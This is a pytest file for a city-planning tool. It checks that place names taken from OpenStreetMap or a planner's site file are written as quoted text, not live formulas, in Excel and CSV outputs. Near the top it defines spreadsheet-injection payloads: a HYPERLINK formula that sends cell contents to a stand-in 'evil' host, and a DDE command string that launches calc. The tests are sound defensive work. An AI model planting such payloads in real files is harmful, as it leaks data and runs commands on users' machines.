"""Outputs a planner opens in a spreadsheet: names from OSM (anyone can edit them) or from a
planner's file never run as formulas in gaps.xlsx, gaps.csv or the siting tables."""

from __future__ import annotations

import csv
import xml.etree.ElementTree as ET

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from circles.cli import main
from circles.present.tables import write_table
from conftest import CHENGDU, need

HYPERLINK = '=HYPERLINK("http://evil/?"&A2,"x")'
PAYLOADS = [HYPERLINK, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)"]
DISTRICT = "=1+2"  # --district-name: the district's rows
URL = "http://evil.example/x"  # text, not a link, in the workbook


def _hostile_extract(path) -> None:
    """The Chengdu extract with its first named residential areas renamed to formulas."""
    tree = ET.parse(need(CHENGDU))
    payloads = iter([*PAYLOADS, URL])
    for way in tree.getroot().iter("way"):
        tags = {tag.get("k"): tag for tag in way.iter("tag")}
        if "landuse" in tags and tags["landuse"].get("v") == "residential" and "name" in tags:
            payload = next(payloads, None)
            if payload is None:
                break
            tags["name"].set("v", payload)
    tree.write(path, encoding="utf-8", xml_declaration=True)


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """``circles analyze`` and ``circles score`` on hostile names, through the CLI."""
    tmp = tmp_path_factory.mktemp("hostile")
    osm = tmp / "hostile.osm"
    _hostile_extract(osm)
    out = tmp / "out"
    args = ["analyze", "--osm", str(osm), "--district-name", DISTRICT, "--out", str(out)]
    args += ["--buffer", "0"]  # the whole extract is the study area: every hostile name is in it
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.output
    sites = tmp / "sites.csv"
    sites_table = {"name": [HYPERLINK, "-1+2", "plain"], "lon": [104.08, 104.07, 104.09]}
    pd.DataFrame(sites_table | {"lat": [30.69, 30.68, 30.70]}).to_csv(sites, index=False)
    args = ["score", "--analysis", str(out), "--category", "kindergarten", "--sites", str(sites)]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.output
    return out


def _csv_rows(path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_no_formula_in_the_workbook(hostile_run):
    book = openpyxl.load_workbook(hostile_run / "gaps.xlsx")
    strings = set()
    conditional = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                assert cell.hyperlink is None, f"{sheet.title}!{cell.coordinate}"
                if cell.data_type == "s":
                    strings.add(cell.value)
        conditional += [r.formula for cf in sheet.conditional_formatting for r in cf.rules]
    assert {*PAYLOADS, DISTRICT, URL} <= strings, "the names are kept, as text"
    assert ['$P2="未达标"'] in conditional, "our own conditional format stays"


def test_formula_names_quoted_in_gaps_csv(hostile_run):
    rows = _csv_rows(hostile_run / "gaps.csv")
    names = {row[rows[0].index("单元名称")] for row in rows[1:]}
    assert {f"'{p}" for p in [*PAYLOADS, DISTRICT]} | {URL} <= names
    assert not [n for n in names if n.startswith(("=", "+", "-", "@", "\t", "\r"))]
    table = pd.read_csv(hostile_run / "gaps.csv", encoding="utf-8-sig")
    assert pd.api.types.is_numeric_dtype(table["人口"]), "numbers stay numbers"


def test_formula_site_names_quoted_in_site_scores(hostile_run):
    rows = _csv_rows(hostile_run / "score" / "site_scores.csv")
    header = rows[0]
    names = {row[header.index("名称")] for row in rows[1:]}
    assert names == {f"'{HYPERLINK}", "'-1+2", "plain"}
    assert all(float(row[header.index("经度")]) > 100 for row in rows[1:])


def test_only_text_cells_are_quoted(tmp_path):
    table = pd.DataFrame(
        {
            "name": ["=1+2", "+1", "-1+2", "@A1", "\t=1", "\r=1", "x\r=1+2", "a=b", None],
            "value": [-3.5, -1, 0, 1, 2, 3, 4, 5, 6],
            "mixed": ["=A1", -2, 3.5, None, "ok", "-", "x", "y", "z"],
        }
    )
    before = table.copy()
    path = tmp_path / "t.csv"
    write_table(table, path, "en")
    rows = _csv_rows(path)[1:]
    assert len(rows) == len(table), "a carriage return in a name starts no new row"
    quoted = ["'=1+2", "'+1", "'-1+2", "'@A1", "'\t=1", "'\n=1"]
    assert [r[0] for r in rows] == [*quoted, "x\n=1+2", "a=b", ""]
    assert [r[1] for r in rows][:3] == ["-3.5", "-1.0", "0.0"], "numbers stay numbers"
    assert [r[2] for r in rows][:3] == ["'=A1", "-2", "3.5"], "a negative number stays a number"
    pd.testing.assert_frame_equal(table, before)  # the caller's table is not changed
